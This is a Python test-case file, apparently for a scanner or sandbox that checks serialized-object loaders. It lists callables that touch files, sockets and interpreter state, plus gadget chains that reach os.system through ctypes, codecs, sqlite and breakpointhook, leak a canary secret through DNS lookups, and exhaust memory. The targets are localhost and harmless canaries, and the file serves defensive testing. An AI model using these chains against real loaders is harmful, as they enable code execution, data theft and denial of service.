"""Callables that reach files, the network, memory or the interpreter's own state."""

from asm import PY, SH, call, call_keywords, drop, get, method, named, partial, POP, put, stream
from cases import elsewhere, runs
from processes import table

TECHNIQUE = "reaching_out"
NOWHERE = "http://127.0.0.1:9/"  # the discard port of this machine; the loader has no network either
RUN_CODE = partial("runpy _run_code", PY, {}, None, "m", None)

FILES = (
    ("os mkdir", ("made",), "file:made"),
    ("posix mkdir", ("made",), "file:made"),
    ("os makedirs", ("made/deep",), "file:made"),
    ("os open", ("opened", 0o101), "file:opened"),
    ("posix open", ("opened", 0o101), "file:opened"),
    ("os symlink", ("/etc/hostname", "linked"), "file:linked"),
    ("os mkfifo", ("pipe",), "file:pipe"),
    ("os mknod", ("node",), "file:node"),
    ("os remove", ("no-such-file",), "audit:os.remove:no-such-file"),
    ("os unlink", ("no-such-file",), "audit:os.remove:no-such-file"),
    ("os rmdir", ("no-such-folder",), "audit:os.rmdir:no-such-folder"),
    ("os rename", ("no-such-file", "other"), "audit:os.rename:no-such-file"),
    ("os replace", ("no-such-file", "other"), "audit:os.rename:no-such-file"),
    ("os chmod", ("no-such-file", 0o777), "audit:os.chmod:no-such-file"),
    ("os truncate", ("no-such-file", 0), "audit:os.truncate:no-such-file"),
    ("os listdir", ("/etc",), "result:hostname"),
    ("os chdir", ("/",), "audit:os.chdir"),
    ("os putenv", ("A", "B"), "audit:os.putenv"),
    ("os getenv", ("CANARY",), "result:m"),
    ("shutil rmtree", ("no-such-folder",), "audit:shutil.rmtree:no-such-folder"),
    ("shutil move", ("no-such-file", "other"), "audit:shutil.move:no-such-file"),
    ("shutil copyfile", ("/etc/hostname", "copied"), "file:copied"),
    ("shutil copytree", ("/etc/pam.d", "copied"), "audit:shutil.copytree"),
    ("shutil make_archive", ("packed", "tar", "."), "file:packed.tar"),
    ("shutil unpack_archive", ("no-such.zip",), "audit:shutil.unpack_archive"),
    ("tempfile mkdtemp", ("", "made", "."), "audit:tempfile.mkdtemp"),
    ("tempfile NamedTemporaryFile", (), "audit:tempfile.mkstemp"),
    ("_io FileIO", ("opened", "w"), "file:opened"),
    ("io open_code", ("/etc/hostname",), "audit:open:hostname"),
    ("_pyio open", ("opened", "w"), "file:opened"),
    ("codecs open", ("opened", "w"), "file:opened"),
    ("gzip open", ("opened", "wb"), "file:opened"),
    ("bz2 open", ("opened", "wb"), "file:opened"),
    ("lzma open", ("opened", "wb"), "file:opened"),
    ("tarfile open", ("opened", "w"), "file:opened"),
    ("zipfile ZipFile", ("opened", "w"), "file:opened"),
    ("pathlib Path.touch", (call("pathlib PosixPath", "made"),), "file:made"),
    ("pathlib Path.read_text", (call("pathlib PosixPath", "/etc/hostname"),), "audit:open:hostname"),
    ("fileinput input", ("/etc/hostname",), "result:FileInput"),
    ("linecache getline", ("/etc/passwd", 1), "result:root"),
    ("mmap mmap", (-1, 16), "result:mmap"),
    ("logging FileHandler", ("logged",), "file:logged"),
    ("sqlite3 connect", ("made.db",), "file:made.db"),
    ("dbm.dumb open", ("made", "n"), "file:made.dat"),
    ("shelve open", ("made", "n"), "audit:open:made"),
    ("venv create", ("made",), "file:made"),
    ("zipapp create_archive", (".", "made", None, "a:b"), "file:made"),
    ("py_compile compile", ("/etc/hostname", "compiled"), "audit:open:hostname"),
    ("compileall compile_dir", ("/etc/pam.d",), "audit:os.listdir:pam.d"),
    ("test.support.os_helper create_empty_file", ("made",), "file:made"),
    ("distutils.file_util write_file", ("made", ["a"]), "file:made"),
    ("numpy fromfile", ("/etc/hostname", "u1"), "audit:open:hostname"),
    ("numpy loadtxt", ("/etc/hostname", named("builtins str")), "audit:open:hostname"),
    ("numpy genfromtxt", ("/etc/hostname", named("builtins str")), "audit:open:hostname"),
    ("numpy memmap", ("mapped", "u1", "w+", 0, (4,)), "file:mapped"),
    ("numpy save", ("saved.npy", [1]), "file:saved.npy"),
    ("numpy savetxt", ("saved.txt", [1]), "file:saved.txt"),
    ("numpy.lib.format open_memmap", ("mapped", "w+", "u1", (4,)), "file:mapped"),
    ("pandas read_csv", ("/etc/hostname",), "audit:open:hostname"),
    ("pandas.io.common get_handle", ("opened", "w"), "file:opened"),
    ("joblib dump", ([1], "dumped"), "file:dumped"),
    ("joblib.disk mkdirp", ("made",), "file:made"),
    ("sklearn.datasets load_svmlight_file", ("/etc/hostname",), "audit:open:hostname"),
    ("sklearn.datasets._base load_files", ("/etc/pam.d",), "audit:os.listdir:pam.d"),
)

NETWORK = (
    ("socket create_connection", (("127.0.0.1", 9),), "audit:socket.connect:127.0.0.1"),
    ("socket socket", (), "audit:socket.__new__"),
    ("_socket socket", (), "audit:socket.__new__"),
    ("socket gethostbyname", ("localhost",), "audit:socket.gethostbyname:localhost"),
    ("_socket getaddrinfo", ("localhost", 80), "audit:socket.getaddrinfo:localhost"),
    ("socket create_server", (("127.0.0.1", 0),), "audit:socket.bind:127.0.0.1"),
    ("urllib.request urlopen", (NOWHERE,), "audit:urllib.Request:127.0.0.1"),
    ("urllib.request urlretrieve", (NOWHERE, "got"), "audit:urllib.Request:127.0.0.1"),
    ("ftplib FTP", ("127.0.0.1",), "audit:ftplib.connect:127.0.0.1"),
    ("smtplib SMTP", ("127.0.0.1", 9), "audit:smtplib.connect:127.0.0.1"),
    ("poplib POP3", ("127.0.0.1", 9), "audit:poplib.connect:127.0.0.1"),
    ("imaplib IMAP4", ("127.0.0.1", 9), "audit:imaplib.open:127.0.0.1"),
    ("nntplib NNTP", ("127.0.0.1", 9), "audit:nntplib.connect:127.0.0.1"),
    ("telnetlib Telnet", ("127.0.0.1", 9), "audit:telnetlib.Telnet.open:127.0.0.1"),
    (
        "logging.handlers SocketHandler.makeSocket",
        (call("logging.handlers SocketHandler", "127.0.0.1", 9),),
        "audit:socket.connect:127.0.0.1",
    ),
    ("multiprocessing.connection Client", (("127.0.0.1", 9),), "audit:socket.connect:127.0.0.1"),
    (
        "http.server HTTPServer",
        (("127.0.0.1", 0), named("http.server BaseHTTPRequestHandler")),
        "audit:socket.bind:127.0.0.1",
    ),
    ("asyncio.events new_event_loop", (), "audit:socket.__new__"),
    ("ssl get_server_certificate", (("127.0.0.1", 9),), "audit:socket.connect:127.0.0.1"),
    ("pandas.io.common urlopen", (NOWHERE,), "audit:urllib.Request:127.0.0.1"),
    ("sklearn.datasets fetch_openml", ("iris",), "audit:urllib.Request"),
    ("numpy.lib._datasource open", (NOWHERE,), "audit:urllib.Request"),
)

INTERPRETER = (
    ("sys settrace", (None,), "audit:sys.settrace"),
    ("sys setprofile", (named("builtins len"),), "audit:sys.setprofile"),
    ("sys addaudithook", (call("types SimpleNamespace"),), "audit:sys.addaudithook"),
    ("sys _getframe", (), "result:frame"),
    ("sys _current_frames", (), "audit:sys._current_frames"),
    ("gc get_objects", (), "audit:gc.get_objects"),
    ("resource setrlimit", (7, (64, 64)), "audit:resource.setrlimit"),
    ("syslog syslog", ("canary",), "audit:syslog.syslog"),
    ("fcntl flock", (0, 8), "audit:fcntl.flock"),
    ("ctypes CDLL", (None,), "audit:ctypes.dlopen"),
    ("ctypes PyDLL", (None,), "audit:ctypes.dlopen"),
    ("ctypes cast", (0, named("ctypes c_void_p")), "result:c_void_p"),
    ("ctypes memset", (1, 0, 1), "status:-11"),
    ("ctypes string_at", (1, 1), "status:-11"),
    ("_ctypes dlopen", (None, 2), "audit:ctypes.dlopen"),
    ("_ctypes PyObj_FromPtr", (1,), "status:-11"),
    ("inspect currentframe", (), "result:frame"),
    ("inspect stack", (), "result:FrameInfo"),
    ("numpy.ctypeslib load_library", ("no-such", "."), "audit:ctypes.dlopen"),
    ("numpy.lib.stride_tricks as_strided", (call("numpy zeros", 1), (10**9,), (4096,)), "repr-status:-11"),
)


def chains():
    yield runs("cdll_system", stream(method(call("ctypes CDLL", None), "system", b': > "$CANARY"')), "ctypes.CDLL")
    yield runs(
        "cdll_pyrun",
        stream(method(call("ctypes PyDLL", None), "PyRun_SimpleString", PY.encode())),
        "ctypes.PyDLL",
        "the interpreter's own C functions",
    )
    yield runs(
        "cdll_cfunction",
        stream(
            call(
                call(
                    call("ctypes CFUNCTYPE", named("ctypes c_int"), named("ctypes c_char_p")),
                    ("system", call("ctypes CDLL", None)),
                ),
                SH.encode(),
            )
        ),
        "ctypes.CFUNCTYPE",
    )
    yield runs(
        "codec_registered",
        stream(drop(call("codecs register", named("os system"))), call("_codecs encode", "a", "id")),
        "codecs.register",
        "the codec's name is the command",
        proof="stdout:uid=",
    )
    yield runs(
        "codec_search",
        stream(drop(call("codecs register", named("importlib import_module"))), call("_codecs lookup", "this")),
        "codecs.register",
        proof="stdout:Beautiful is better",
    )
    yield runs(
        "sqlite_extension",
        stream(method(call("sqlite3 connect", ":memory:"), "enable_load_extension", True)),
        "sqlite3.connect",
        "where the module was built with extensions",
        proof="audit:sqlite3.connect",
    )
    yield runs(
        "sqlite_attach",
        stream(method(call("sqlite3 connect", ":memory:"), "execute", "ATTACH 'made.db' AS a")),
        "sqlite3.connect",
        proof="audit:sqlite3.connect",
    )
    yield runs(
        "sqlite_function",
        stream(
            call("sqlite3 connect", ":memory:"),
            put(1),
            POP,
            drop(method(get(1), "create_function", "f", 1, named("os system"))),
            method(get(1), "execute", "select f('touch made')"),
        ),
        "sqlite3.connect|os.system",
        proof="file:made",
    )
    yield runs(
        "signal_handler",
        stream(drop(call("signal signal", 10, RUN_CODE)), call("signal raise_signal", 10)),
        "signal.signal",
    )
    yield runs(
        "faulthandler_exit",
        stream(drop(call("faulthandler dump_traceback_later", 0.1, False, 2, True)), call("time sleep", 5)),
        "faulthandler.dump_traceback_later",
        proof="status:1",
    )
    yield runs(
        "breakpointhook",
        stream(
            drop(call("builtins setattr", call("builtins __import__", "sys"), "breakpointhook", named("os system"))),
            call("builtins breakpoint", SH),
        ),
        "builtins.setattr|builtins.breakpoint",
    )
    yield runs(
        "write_text",
        stream(method(call("pathlib PosixPath", "made"), "write_text", "a")),
        "pathlib.PosixPath",
        "PosixPath itself is met in models",
        proof="file:made",
    )
    yield runs(
        "print_file",
        stream(call_keywords("builtins print", "a", file=call("builtins open", "made", "w"))),
        "builtins.open",
        proof="file:made",
    )
    yield runs(
        "http_request",
        stream(method(call("http.client HTTPConnection", "127.0.0.1", 9), "request", "GET", "/")),
        "http.client.HTTPConnection",
        proof="audit:socket.connect:127.0.0.1",
    )
    yield runs(
        "xmlrpc_call",
        stream(call(call("builtins getattr", call("xmlrpc.client ServerProxy", NOWHERE), "f"))),
        "xmlrpc.client.ServerProxy",
        proof="audit:socket.connect:127.0.0.1",
    )
    yield runs(
        "dns_exfiltration",
        stream(call("socket gethostbyname", call("operator add", call("os getenv", "CANARY"), ".invalid"))),
        "socket.gethostbyname",
        "a secret in a host name",
        proof="audit:socket.gethostbyname:m",
    )
    yield runs(
        "joblib_eval_expr",
        stream(call("joblib._utils eval_expr", "2**6")),
        "joblib._utils.eval_expr",
        "arithmetic only, but text all the same",
        proof="result:64",
        needs=["joblib"],
    )
    yield runs(
        "joblib_memory",
        stream(method(call("joblib Memory", "cache"), "eval", named("os.path exists"), "/")),
        "joblib.Memory",
        proof="file:cache",
        needs=["joblib"],
    )
    yield runs(
        "memory_bomb_bytes",
        stream(call("builtins bytearray", 1 << 40)),
        "builtins.bytearray",
        "bytearray is met in models, with bytes",
        proof="raises:MemoryError",
    )
    yield runs(
        "range_list",
        stream(call("builtins list", call("builtins range", 1 << 40))),
        "builtins.range",
        proof="raises:MemoryError",
    )
    yield runs("string_times", stream(call("operator mul", "a", 1 << 40)), "operator.mul", proof="raises:MemoryError")
    yield runs(
        "regex_catastrophe",
        stream(call("re match", "(a+)+$", "a" * 40 + "b")),
        "re.match",
        proof="exhausts",
        note="compiling and matching text of the file",
    )
    yield runs("numpy_zeros_bomb", stream(call("numpy zeros", 1 << 45)), "numpy.zeros", proof="raises", needs=["numpy"])
    yield runs("time_sleep", stream(call("time sleep", 3600)), "time.sleep", proof="exhausts")


def away():
    yield elsewhere("msvcrt", stream(call("msvcrt putch", b"a")), "msvcrt.putch", "Windows: PC/msvcrtmodule.c")
    yield elsewhere(
        "winreg", stream(call("winreg ConnectRegistry", None, 0)), "winreg.ConnectRegistry", "Windows: PC/winreg.c"
    )
    yield elsewhere(
        "torch_serialization", stream(call("torch save", [1], "made")), "torch.save", "torch/serialization.py"
    )


def cases():
    for rows in (FILES, NETWORK, INTERPRETER):
        yield from table(rows)
    yield from chains()
    yield from away()
